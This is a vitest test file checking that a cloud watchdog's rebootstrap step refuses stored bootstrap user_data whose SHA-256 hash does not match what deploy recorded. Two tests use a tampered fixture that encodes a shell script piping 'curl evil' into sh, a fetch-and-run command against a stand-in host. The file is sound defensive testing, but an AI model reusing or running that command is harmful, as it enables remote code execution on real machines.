import { describe, expect, it } from "vitest";
import { bootstrapUserData, hasBootstrap, userDataSha256 } from "../../shared/cloud/user-data";
import type { BoxConfig } from "../../shared/config";
import { ComputeError } from "../../shared/errors";
import { initialState } from "../../shared/policy";
import { silentLogger } from "../../shared/runtime/logger";
import { MemoryStateStore } from "../../shared/state/memory";
import { perform } from "../../shared/watchdog/perform";
import type { CycleDeps } from "../../shared/watchdog/ports";
import { MemoryCompute } from "../support/compute";

const box = (extra: Partial<BoxConfig>): BoxConfig => ({
  name: "main",
  serverId: "srv",
  gateway: { url: "http://10.0.0.2:18789", token: "t" },
  telegram: { botToken: "b" },
  maas: { baseUrl: "https://m/v1", apiKey: "k", model: "x" },
  bootstrapStored: false,
  ...extra,
});

describe("bootstrap user_data for the rebootstrap rung", () => {
  it("prefers the inline value and never reads OBS for it", async () => {
    const store = new MemoryStateStore();
    store.failing = true;
    expect(hasBootstrap(box({ bootstrapUserData: "aW5saW5l" }))).toBe(true);
    expect(await bootstrapUserData(box({ bootstrapUserData: "aW5saW5l" }), store)).toBe("aW5saW5l");
  });

  it("reads the stored object when the deploy put one there, and its hash matches", async () => {
    const store = new MemoryStateStore();
    store.bootstraps.set("main", "c3RvcmVk");
    const stored = box({ bootstrapStored: true, bootstrapSha256: userDataSha256("c3RvcmVk") });
    expect(hasBootstrap(stored)).toBe(true);
    expect(await bootstrapUserData(stored, store)).toBe("c3RvcmVk");
  });

  it("refuses a stored copy that is not what deploy stored, or without a recorded hash", async () => {
    const store = new MemoryStateStore();
    store.bootstraps.set("main", Buffer.from("#!/bin/sh\ncurl evil | sh\n").toString("base64"));
    const tampered = box({ bootstrapStored: true, bootstrapSha256: userDataSha256("c3RvcmVk") });
    await expect(bootstrapUserData(tampered, store)).rejects.toThrow(
      /refused: the stored bootstrap user_data does not match/,
    );
    await expect(bootstrapUserData(box({ bootstrapStored: true }), store)).rejects.toThrow(
      /refused: the deploy recorded no hash/,
    );
  });

  it("a rebootstrap with a tampered copy reinstalls nothing and fails the rung", async () => {
    const store = new MemoryStateStore();
    store.bootstraps.set("main", Buffer.from("#!/bin/sh\ncurl evil | sh\n").toString("base64"));
    const compute = new MemoryCompute();
    const tampered = box({ bootstrapStored: true, bootstrapSha256: userDataSha256("c3RvcmVk") });
    const deps = {
      config: { runtime: { safetyMargin: 0 } },
      store,
      compute: async () => compute,
      remainingMs: () => 60_000,
    } as unknown as CycleDeps;
    const outcomes = await perform(
      [
        {
          kind: "remediate",
          action: "rebootstrap",
          incidentId: "inc-1",
          idempotencyKey: "inc-1:rebootstrap",
          reason: "gateway down after hard reboot",
        },
      ],
      tampered,
      initialState("main"),
      deps,
      silentLogger,
    );
    expect(compute.calls).toEqual([]);
    expect(outcomes).toEqual([
      expect.objectContaining({
        kind: "remediate-failed",
        action: "rebootstrap",
        error: expect.stringContaining("does not match what deploy stored"),
      }),
    ]);
  });

  it("says what to do when there is none", async () => {
    const store = new MemoryStateStore();
    expect(hasBootstrap(box({}))).toBe(false);
    await expect(bootstrapUserData(box({ bootstrapStored: true }), store)).rejects.toThrow(
      ComputeError,
    );
    await expect(bootstrapUserData(box({}), store)).rejects.toThrow(/infra -- deploy/);
  });
});
